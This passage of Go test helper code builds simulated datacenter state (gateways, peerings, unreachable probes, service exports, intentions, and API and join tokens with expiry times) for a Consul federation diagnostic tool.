	w.see("dc2", func(s *doctor.Seen) {
		s.Inventory.PrimaryDatacenter, s.Inventory.WanFederationEnabled = "", new(false)
		report := s.Deliveries[0].Report
		report.Host, report.CanWrite, report.CanRestart = &isthmusv1.FederationHost{Agent: "dc2-a", State: resource.DeliveryNone}, true, true
		change(report)
	})
}

// unreached has one datacenter not reach another's gateway.
func (w *world) unreached(from, to, reason string) {
	w.see(from, func(s *doctor.Seen) {
		s.Federation.Probes = []*isthmusv1.ObservedProbe{{Datacenter: to, Address: wanOf(to), ErrorReason: reason}}
	})
}

func (w *world) withoutGateway(dc string) {
	w.Delete(resource.KindGateway, dc+"-gw")
	w.see(dc, func(s *doctor.Seen) { s.Inventory.Gateways = nil })
}

// dialledAt gives a datacenter's gateway another address, which nobody has tried.
func (w *world) dialledAt(dc, address string) {
	w.gateway(dc+"-gw", func(g *isthmusv1.Gateway) { g.Spec.WanAddress = address })
}

// dials has what dc3 dials for its peering.
func (w *world) dials(change func(*isthmusv1.PeeringSpec), probes ...*isthmusv1.ObservedProbe) {
	put(w, resource.KindPeering, "dc1-dc3", func(p *isthmusv1.Peering) { change(p.GetSpec()) })
	w.see("dc3", func(s *doctor.Seen) { s.Peerings.Peerings[0].Dials = probes })
}

// extra has one more peering in a Consul.
func (w *world) extra(dc, origin, state string) {
	w.see(dc, func(s *doctor.Seen) {
		s.Peerings = &isthmusv1.PeeringsReport{Peerings: []*isthmusv1.ObservedPeering{{PeerName: "old", Origin: origin, State: state}}}
	})
}

func (w *world) exported(state string) {
	put(w, resource.KindServiceExport, "web", func(e *isthmusv1.ServiceExport) { e.Status.Placements[0].State = state })
}

func (w *world) policy(state string, conflicts ...*isthmusv1.PolicyConflict) {
	put(w, resource.KindIntention, "api", func(i *isthmusv1.Intention) {
		i.Status.Placements[0].State, i.Status.Placements[0].Conflicts = state, conflicts
	})
}

func (w *world) apiToken(left time.Duration) {
	w.evidence.APITokens = []*isthmusv1.APIToken{{Name: "ci", Spec: &isthmusv1.APITokenSpec{Role: resource.RoleViewer, ExpireTime: in(left)}}}
}

func (w *world) joinToken(dc string, left time.Duration, uses int32) {
	w.Put(&isthmusv1.JoinToken{
		Name: "jt", Spec: &isthmusv1.JoinTokenSpec{Grant: &isthmusv1.JoinGrant{Datacenter: dc, Kind: resource.AgentKindAgent, ExpireTime: in(left)}},
		Status: &isthmusv1.JoinTokenStatus{Uses: uses},
	})
}
